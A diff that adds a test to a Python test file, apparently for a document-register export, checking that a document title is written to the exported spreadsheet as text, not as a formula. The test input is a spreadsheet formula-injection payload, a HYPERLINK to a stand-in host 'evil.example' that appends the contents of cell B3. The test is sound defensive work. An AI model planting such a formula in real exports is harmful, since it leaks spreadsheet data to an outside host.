@@ -202,3 +202,14 @@ def test_the_register_reads_a_bounded_number_of_queries(
 
     assert len(numbers(response)) == 6
     assert IssuedNumber.objects.count() == 6
+
+
+def test_document_text_is_exported_as_text_never_as_a_formula(office, client_for):
+    hostile = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
+    document = draft_document(office, title=hostile)
+    advance(document, office, until="finished")
+    response = client_for(office.clerk).get(export_url(office))
+    title = load_workbook(BytesIO(response.content)).active.cell(row=3, column=3)
+    assert title.value == hostile
+    assert title.data_type == "s"
+    assert title.quotePrefix
